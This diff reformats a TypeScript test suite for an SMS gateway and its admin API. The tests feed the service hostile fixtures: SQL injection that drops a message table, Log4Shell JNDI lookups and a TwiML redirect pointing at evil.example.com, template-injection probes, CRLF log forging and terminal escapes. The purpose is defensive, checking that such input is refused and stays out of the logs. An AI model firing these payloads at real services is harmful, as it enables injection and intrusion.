@@ -6,7 +6,10 @@ const HOSTILE: [string, string][] = [
   ['NUL bytes', 'a\0b\0'],
   ['half a surrogate pair', 'a\ud800b\udfff'],
   ['SQL and JSON', `'; drop table messaging.message_history; -- $$ || (select version()) || $$ \\' %s :1 $1 {"$gt":""}`],
-  ['TwiML and templates', '</Message><Redirect>http://evil.example.com</Redirect><Message> ${jndi:ldap://evil.example.com/a} {{7*7}} <%= 7 %> \u202e'],
+  [
+    'TwiML and templates',
+    '</Message><Redirect>http://evil.example.com</Redirect><Message> ${jndi:ldap://evil.example.com/a} {{7*7}} <%= 7 %> \u202e',
+  ],
   ['line ends and terminal controls', 'x\r\nX-Injected: 1\r\n\r\n{"level":"fatal","msg":"forged"}\u001b[2J\u001b]0;owned\u0007'],
   ['a name that objects inherit', '__proto__'],
   ['nothing', ''],
@@ -26,19 +29,46 @@ describe('hostile input', () => {
   beforeEach(() => gateway.adapter.reset());
   afterAll(() => gateway?.stop());
 
-  const FIELDS = ['From', 'To', 'Body', 'MessageSid', 'SmsSid', 'NumMedia', 'MediaUrl0', 'MediaContentType0', 'OptOutType', 'AccountSid', 'FromCity', 'NewField'];
+  const FIELDS = [
+    'From',
+    'To',
+    'Body',
+    'MessageSid',
+    'SmsSid',
+    'NumMedia',
+    'MediaUrl0',
+    'MediaContentType0',
+    'OptOutType',
+    'AccountSid',
+    'FromCity',
+    'NewField',
+  ];
 
   it.each(HOSTILE)('%s in any field of a signed form is taken or refused, never our fault', async (_, value) => {
     const form = { Body: SECRET_WORDS, NumMedia: '1', MediaUrl0: 'https://m.example.com/1' };
-    const answers = await Promise.all(FIELDS.map((field, i) => gateway.incoming({ ...form, From: gateway.phone(), [field]: i % 2 ? value : [value, value] })));
+    const answers = await Promise.all(
+      FIELDS.map((field, i) => gateway.incoming({ ...form, From: gateway.phone(), [field]: i % 2 ? value : [value, value] })),
+    );
     for (const { status } of answers) expect([200, 400, 404]).toContain(status);
     const { status } = await gateway.incoming({ From: gateway.phone(), Body: 'STOP', [value.slice(0, 100)]: 'as a name' });
     expect([200, 400]).toContain(status);
   });
 
   it.each(HOSTILE)('%s in an unsigned form is refused', async (_, value) => {
-    const forms = FIELDS.map((field): Form => ({ AccountSid: gateway.twin.accountSid, MessageSid: newSid(), From: gateway.phone(), To: NUMBER, Body: SECRET_WORDS, [field]: value }));
-    const answers = await Promise.all(forms.flatMap((form) => [gateway.post('/sms/incoming', form, { signature: 'AAAA' }), gateway.post('/sms/status', form, { signature: value.replace(/[^ -~]/g, '').slice(0, 1_000) })]));
+    const forms = FIELDS.map((field): Form => ({
+      AccountSid: gateway.twin.accountSid,
+      MessageSid: newSid(),
+      From: gateway.phone(),
+      To: NUMBER,
+      Body: SECRET_WORDS,
+      [field]: value,
+    }));
+    const answers = await Promise.all(
+      forms.flatMap((form) => [
+        gateway.post('/sms/incoming', form, { signature: 'AAAA' }),
+        gateway.post('/sms/status', form, { signature: value.replace(/[^ -~]/g, '').slice(0, 1_000) }),
+      ]),
+    );
     expect(answers.map(({ status }) => status)).toEqual(answers.map(() => 403));
   });
 
@@ -58,10 +88,23 @@ describe('hostile input', () => {
       ['/numbers', { phone_number: '+15558889999', agent_id: value }],
     ];
     const encoded = encodeURIComponent(value.toWellFormed());
-    const paths = [`/messages?phone=${encoded.slice(0, 5_000)}`, `/messages?before=${encoded.slice(0, 5_000)}`, `/messages?limit=${encoded.slice(0, 5_000)}`, `/consents?phone=${encoded.slice(0, 5_000)}`, `/messages/${encoded.slice(0, 5_000)}`, `/numbers/${encoded.slice(0, 150)}`];
+    const paths = [
+      `/messages?phone=${encoded.slice(0, 5_000)}`,
+      `/messages?before=${encoded.slice(0, 5_000)}`,
+      `/messages?limit=${encoded.slice(0, 5_000)}`,
+      `/consents?phone=${encoded.slice(0, 5_000)}`,
+      `/messages/${encoded.slice(0, 5_000)}`,
+      `/numbers/${encoded.slice(0, 150)}`,
+    ];
     const answers = [
       ...(await Promise.all(bodies.map(([path, body]) => admin.post(path, body)))),
-      ...(await Promise.all(bodies.slice(0, 2).map(([path, body]) => admin.post(path, body).set('idempotency-key', `${value.replace(/[^ -~]/g, '').slice(0, 200)}${randomUUID()}`)))),
+      ...(await Promise.all(
+        bodies
+          .slice(0, 2)
+          .map(([path, body]) =>
+            admin.post(path, body).set('idempotency-key', `${value.replace(/[^ -~]/g, '').slice(0, 200)}${randomUUID()}`),
+          ),
+      )),
       ...(await Promise.all(paths.map((path) => admin.get(path)))),
       await admin.delete(`/numbers/${encoded.slice(0, 150)}`),
       await admin.put('/carrier-accounts', { account_sid: value, auth_token: value }),
@@ -83,7 +126,13 @@ describe('hostile input', () => {
   });
 
   it('headers are as harmless', async () => {
-    const headers = { traceparent: `00-${"'".repeat(32)}-x-01`, 'x-forwarded-for': '${jndi:ldap://x}', 'user-agent': '<script>', 'x-request-id': 'a'.repeat(4_000), 'i-twilio-idempotency-token': "' or 1=1" };
+    const headers = {
+      traceparent: `00-${"'".repeat(32)}-x-01`,
+      'x-forwarded-for': '${jndi:ldap://x}',
+      'user-agent': '<script>',
+      'x-request-id': 'a'.repeat(4_000),
+      'i-twilio-idempotency-token': "' or 1=1",
+    };
     expect((await gateway.incoming({ From: gateway.phone() }, { headers })).status).toBe(200);
   });
 
@@ -103,8 +152,10 @@ describe('hostile input', () => {
     await gateway.app.get(ReconcilerService).look();
     const log = gateway.log.join('');
     expect(log).toMatch(/carrier|looked up/);
-    for (const line of gateway.log) expect(JSON.parse(line)).toMatchObject({ app: 'sms-gateway', level: expect.stringMatching(/^(trace|debug|info|warn)$/) });
-    for (const secret of [SECRET_WORDS, admin.key!, gateway.twin.authToken, 'evil.example.com', 'drop table', 'forged']) expect(log).not.toContain(secret);
+    for (const line of gateway.log)
+      expect(JSON.parse(line)).toMatchObject({ app: 'sms-gateway', level: expect.stringMatching(/^(trace|debug|info|warn)$/) });
+    for (const secret of [SECRET_WORDS, admin.key!, gateway.twin.authToken, 'evil.example.com', 'drop table', 'forged'])
+      expect(log).not.toContain(secret);
     expect(log).not.toMatch(/\+?1555\d{7}/);
     expect(await gateway.rows('select 1 from messaging.message_history limit 1')).toHaveLength(1);
   });
